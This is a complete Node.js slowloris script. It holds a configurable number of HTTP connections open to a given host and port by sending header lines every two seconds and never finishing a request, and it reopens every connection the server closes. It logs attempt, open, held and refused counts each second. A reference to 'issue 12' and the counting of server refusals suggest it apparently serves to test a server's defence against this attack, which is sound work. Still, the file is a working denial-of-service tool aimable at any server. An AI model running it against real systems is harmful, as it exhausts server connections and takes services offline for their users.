// A slowloris from one address (issue 12): tries to hold `--connections` HTTP requests open
// at once, each sending its header one line every few seconds and never finishing it; every
// connection the server closes is opened again. Prints a STATS line every second:
// attempts, open (connected and not yet closed), held (open for over a second), refused.
//
// usage: node slowloris.mjs --host IP --port N --from IP [--connections 1200]
import net from 'node:net';
import { parseArgs } from 'node:util';

const { values: opt } = parseArgs({ options: {
  host: { type: 'string' }, port: { type: 'string' }, from: { type: 'string' },
  connections: { type: 'string', default: '1200' } } });
const wanted = Number(opt.connections);
const stats = { attempts: 0, open: 0, refused: 0 };
const openSince = new Map();  // socket → when it connected

function attack() {
  stats.attempts++;
  const socket = net.connect({ host: opt.host, port: Number(opt.port), localAddress: opt.from });
  let drip = null;
  socket.on('connect', () => {
    stats.open++;
    openSince.set(socket, Date.now());
    socket.write(`GET / HTTP/1.1\r\nHost: ${opt.host}\r\n`);
    drip = setInterval(() => socket.write(`X-Slow-${stats.attempts}: a\r\n`), 2000);
  });
  socket.on('data', () => stats.refused++);  // a 503 (or any reply): the server said no
  socket.on('error', () => {});
  socket.on('close', () => {
    if (openSince.delete(socket)) stats.open--;
    clearInterval(drip);
    setTimeout(attack, 50);  // a slowloris always comes back
  });
}

for (let i = 0; i < wanted; i++) attack();
setInterval(() => {
  const now = Date.now();
  const held = [...openSince.values()].filter((t) => now - t > 1000).length;
  console.log(`STATS attempts=${stats.attempts} open=${stats.open} held=${held} refused=${stats.refused}`);
}, 1000);
